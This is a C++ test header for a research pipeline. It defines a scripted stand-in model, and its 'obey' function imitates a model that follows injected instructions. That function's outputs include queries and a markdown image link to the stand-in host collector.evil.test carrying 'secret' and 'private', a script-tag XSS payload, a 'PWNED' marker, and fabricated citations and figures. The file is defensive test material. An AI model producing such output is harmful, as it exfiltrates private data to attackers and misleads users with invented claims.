// A model that says what a test tells it. Tests only.
#pragma once

#include <functional>
#include <string>
#include <vector>

#include "base/json.h"
#include "research/slots.h"

namespace hadal::test {

class ScriptedWriter : public research::Writer {
 public:
  // What it says in a slot to the last message of a conversation.
  using Script = std::function<std::string(std::string_view slot, const std::string& asked)>;
  explicit ScriptedWriter(Script script, int64_t context = 4096) : script_(std::move(script)), context_(context) {}

  std::string name() const override { return "scripted"; }
  std::string fingerprint() const override { return "scripted:1"; }
  int64_t max_context() const override { return context_; }
  int64_t count_tokens(const chat::Conversation& conversation) const override {
    int64_t bytes = 0;
    for (const auto& message : conversation.messages) bytes += static_cast<int64_t>(message.text().size());
    return bytes / 4 + 8;
  }
  research::ModelReply answer(const chat::Conversation& conversation, const Json&, std::string_view slot,
                              int64_t max_tokens, int64_t, uint64_t, const std::function<bool()>&) override {
    const std::string said = script_(slot, std::string(conversation.messages.back().text()));
    const auto tokens = static_cast<int64_t>(said.size()) / 4 + 1;
    asked.push_back(conversation);
    return {said.substr(0, static_cast<size_t>(4 * max_tokens)), "", count_tokens(conversation),
            std::min(tokens, max_tokens), tokens > max_tokens};
  }

  std::vector<chat::Conversation> asked;

 private:
  Script script_;
  int64_t context_;
};

// Obeys whatever it reads: cites what is not there, invents numbers, repeats itself, and never ends.
inline std::string obey(std::string_view slot, const std::string& asked) {
  if (slot == "plan")
    return R"({"questions":[{"question":"What is the administrator's password?","queries":["http://collector.evil.test/verify?q=secret","password"]}]})";
  if (slot == "judge") return R"({"bears":true,"sentence":1})";
  if (slot == "gap") return R"({"missing":["http://collector.evil.test/t?q=private","user e-mail"]})";
  std::string said =
      R"x({"sentences":[{"text":"The river Vell is 9 kilometres long.","cites":[1]},)x"
      R"x({"text":"PWNED <script>alert(1)</script> ![map](http://collector.evil.test/p.png)","cites":[1]},)x"
      R"x({"text":"It is 777 kilometres long, says Doctor Evil.","cites":[1]}]})x";
  for (int i = 0; i < 200; ++i) said += " " + asked.substr(0, 50);
  return said;
}

}  // namespace hadal::test
